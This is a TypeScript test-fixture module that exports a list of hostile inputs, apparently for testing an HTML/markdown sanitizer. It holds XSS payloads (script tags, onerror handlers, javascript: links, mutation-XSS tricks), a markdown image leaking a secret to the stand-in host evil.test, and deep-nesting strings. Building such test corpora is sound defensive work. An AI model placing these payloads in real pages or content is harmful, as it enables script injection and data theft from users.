/** Hostile texts: the project's collection where it lies beside the repository, and a few that are always here. */

import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";

const FOLDER = join(import.meta.dirname, "..", "..", "..", "shared", "corpora");

const ALWAYS = [
  "<script>alert('XSS_CANARY')</script>",
  "<img src=x onerror=alert('XSS_CANARY')>",
  "![x](https://evil.test/leak?d=SECRET)",
  "[x](javascript:alert('XSS_CANARY'))",
  "[x](//evil.test)",
  "<svg><animate attributeName=href values='javascript:alert(1)'/><a id=x><text y=20>click</text></a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<form action=https://evil.test><input name=attributes><button>go</button></form>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
  "<a href='https://ok.test' data-commandlinker-command='filebrowser:delete' id=x class=y style='color:red'>x</a>",
  "<div style='background:url(https://evil.test/leak)' onclick=alert(1)>x</div>",
  "<video poster=https://evil.test/p><source src=//evil.test></video><audio src=//evil.test>",
  "<link rel=stylesheet href=//evil.test><style>@import '//evil.test'</style><base href=//evil.test>",
  "<a href='data:text/html,x'>x</a><a href='vbscript:x'>x</a><a href='JaVaScRiPt:alert(1)'>x</a><a href='\tfile:///etc'>x</a>",
  `${"> ".repeat(20_000)}deep`,
  `${"[".repeat(20_000)}x`,
];

function payloads(file: string): string[] {
  const path = join(FOLDER, file);
  if (!existsSync(path)) return [];
  const lines = readFileSync(path, "utf8").trim().split("\n");
  return lines.map((line) => String(JSON.parse(line).payload));
}

export const HOSTILE = [...ALWAYS, ...payloads("xss_html.jsonl"), ...payloads("xss_markdown_exfil.jsonl")];
